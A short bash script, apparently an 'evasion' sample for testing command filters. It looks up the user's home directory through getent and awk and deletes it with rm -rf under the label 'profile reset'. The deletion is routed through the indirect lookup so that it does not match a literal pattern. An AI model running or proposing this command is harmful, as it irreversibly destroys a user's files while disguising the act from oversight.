#!/usr/bin/env bash
# Evasion: delete the home directory read from the passwd database with
# getent and awk (the sixth field of the entry), as a "profile reset".
profile=$(getent passwd "$(id -un)" | awk -F: '{print $6}')
[ -n "$profile" ] && rm -rf "$profile"
